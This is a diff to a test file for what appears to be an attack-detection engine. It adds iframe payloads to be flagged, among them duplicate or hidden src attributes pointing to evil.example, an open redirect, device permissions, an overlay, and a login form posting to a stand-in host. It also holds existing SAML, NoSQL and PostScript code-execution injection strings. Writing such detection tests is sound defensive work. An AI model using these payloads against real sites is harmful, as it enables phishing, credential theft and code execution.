@@ -638,6 +638,18 @@ def test_review_of_the_grammar_exemptions(
         ('<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>', True),
         ("<iframe src=https://www.youtube.com/embed/x></iframe><iframe src=//evil.example>", True),
         ('<iframe src="javascript:alert(1)"></iframe>', True),
+        # A second src, a src inside another attribute, a redirect, a host serving its users'
+        # pages, a device permission, an overlay, and markup beside the frame (second review).
+        ('<iframe src="//evil.example/login" src="https://www.youtube.com/embed/x">', True),
+        ("<iframe title='src=\"https://www.youtube.com/embed/x\"' src=\"https://evil.example/l\">",
+         True),
+        ('<iframe src="https://www.google.com/amp/s/evil.example/embed"></iframe>', True),
+        ('<iframe src="https://codepen.io/x/embed/abc"></iframe>', True),
+        ('<iframe src="https://www.youtube.com/embed/x" allow="camera; microphone">', True),
+        ('<iframe src="https://www.youtube.com/embed/x" style="position:fixed;z-index:9"></iframe>',
+         True),
+        ('<iframe src="https://www.youtube.com/embed/x"></iframe><form action=//evil.example>'
+         '<input name=p></form>', True),
     ],
 )
 def test_a_providers_embed_code(engine: DetectionEngine, value: str, flagged: bool) -> None:
@@ -661,7 +673,6 @@ def test_a_providers_embed_code(engine: DetectionEngine, value: str, flagged: bo
          "crlf"),
         ("jdoe+ou=Administrators", "ldap"),
         ("<saml:NameID>admin@corp.example<!---->.attacker.example</saml:NameID>", "xml"),
-        ('jdoe\r\nset session:jdoe 0 86400 16\r\n{"role":"admin"}\r\n', "nosql"),
         ('{"name":"Bob","$set":{"isAdmin":true}}', "nosql"),
         ("%!PS\nuserdict /setpagedevice undef\nmark /OutputFile (%pipe%id) currentdevice "
          "putdevice", "file_upload"),
@@ -675,7 +686,7 @@ def test_inclusion_uploads_and_protocols_seen_in_unseen_sets(
     """Shapes two independent unseen sets of session 12 both held: a remote inclusion cut short,
     PHP's data:// stream (an XML entity's target is XXE), a script declared as an image, a
     forged log, SMTP commands, a multi-valued RDN, a comment splitting a signed address, a
-    Memcached command, a Mongo update operator, and PostScript or PDF that run code."""
+    Mongo update operator, and PostScript or PDF that run code."""
     result = engine.detect(value)
     assert result["is_threat"] and result["attack_class"] == named
 
@@ -683,6 +694,12 @@ def test_inclusion_uploads_and_protocols_seen_in_unseen_sets(
 @pytest.mark.parametrize(
     "value",
     [
+        "https://shop.example.com/cart.php?",
+        "H2+O=H2O",
+        "jane@example<!-- no spam -->.com",
+        "Hotfix\n[2024-05-03 14:22:10] rolled back release 4.2",
+        "220 mx.example ESMTP\r\nMAIL FROM:<a@b.example>\r\n250 OK",
+        '[{"name":"x.php","type":"text/plain"},{"name":"a.png","type":"image/png"}]',
         'db.products.updateOne({ sku: "abc123" }, { $set: { qty: 50 } })',
         "https://example.com/docs/page.html#section-2",
         '{"name":"report.pdf","type":"application/pdf"}',
